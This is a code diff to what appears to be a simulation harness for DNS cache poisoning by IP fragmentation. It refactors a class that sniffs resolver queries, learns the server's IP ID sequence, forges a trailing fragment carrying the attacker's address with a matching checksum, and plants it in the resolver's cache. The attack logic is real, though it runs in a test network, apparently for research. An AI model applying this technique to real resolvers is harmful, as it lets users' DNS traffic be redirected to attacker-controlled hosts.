@@ -53,11 +53,10 @@ class Planter:
         """Octets of the datagram in its first fragment."""
 
     def learn(self, other):
-        """A client asks about another name, which shows how the resolver asks and at which IDs the server is. Then the
-        attacker asks the server as the resolver would, for the answer that it will change."""
+        """A client asks about another name, which shows how the resolver asks. Then the attacker asks the server as the
+        resolver would, for the answer that it will change."""
         self.act.ask(RESOLVER, other)
         self.query = self.act.sniff(question_to(SERVER, other, "A"))
-        answer = self.act.hear_answer(SERVER, other, "A")
         with self.act.network.entered("attacker"):
             sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
         payload = packets.parse(self.query).payload
@@ -67,7 +66,12 @@ class Planter:
             head = self.act.rng.randbytes(2) + payload[2:12]
             sock.sendto(head + wire.name(self.name) + payload[end - 4:], (ipv4(SERVER), 53))
             self.truth = bytes(8) + sock.recv(guessing.LONGEST_MESSAGE)
-        return int.from_bytes(answer[18:20], "big")
+
+    def last_id(self, other):
+        """A client asks about one more name: the answer shows at which IDs the server is with this resolver."""
+        self.act.attacker.listen()
+        guessing.received(guessing.flock(self.act, RESOLVER, other, ["client"]))
+        return int.from_bytes(self.act.hear_answer(SERVER, other, "A")[18:20], "big")
 
     def forged(self, begin):
         """The end of the true datagram from an offset on, with the attacker's address in it and the sum that it had."""
@@ -125,10 +129,10 @@ def attack(act, zone_name, shift=0):
     Returns the name."""
     with narrow(act) as mtu:
         act.warm(*act.pick("unsigned.test.", 4), *act.pick(zone_name, 4), resolver=RESOLVER, kinds=("A",))
-        name, other = act.pick(zone_name, 2)
+        name, shown, other = act.pick(zone_name, 3)
         planter = Planter(act, name, mtu)
-        last = planter.learn(other)
+        planter.learn(shown)
         guessing.forged_data(act)
-        planter.plant(last, act.rng.randint(24, MOST_PLANTED), planter.begin - shift)
+        planter.plant(planter.last_id(other), act.rng.randint(24, MOST_PLANTED), planter.begin - shift)
         planter.trigger()
     return name
